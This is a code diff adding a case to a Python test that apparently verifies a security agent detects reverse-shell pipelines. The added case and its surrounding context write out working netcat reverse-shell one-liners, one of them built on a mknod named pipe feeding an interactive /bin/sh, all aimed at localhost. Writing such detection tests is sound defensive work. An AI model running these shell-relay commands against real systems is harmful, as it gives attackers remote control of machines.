@@ -293,6 +293,12 @@ def t_pipe_relay(agent):
         run(["sh", "-c", "T=%s; timeout 10 nc -w 2 127.0.0.1 %d | /bin/sh | timeout 10 nc -w 2 127.0.0.1 %d"
              % (t2, lst.port, lst.port)], stdin=subprocess.DEVNULL)
         eq(fields(wait_for(agent, rule, t2))["proc.name"], "sh", "proc.name")
+        # the pipe made with mknod, the command glued to it with ";"
+        t4 = token()
+        run(["sh", "-c", "T=%s; rm -f %s; mknod %s p;cat %s | /bin/sh -i 2>&1 | timeout 10 nc -w 2 127.0.0.1 %d > %s; "
+             "rm -f %s" % (t4, fifo, fifo, fifo, lst.port, fifo, fifo)], start_new_session=True,
+            stdin=subprocess.DEVNULL)
+        wait_for(agent, rule, t4)
         # near miss: a named pipe and netcat, but no shell in the pipeline
         t3 = token()
         run(["sh", "-c", "T=%s; rm -f %s; mkfifo %s; nc -z -w 2 127.0.0.1 %d; rm -f %s"
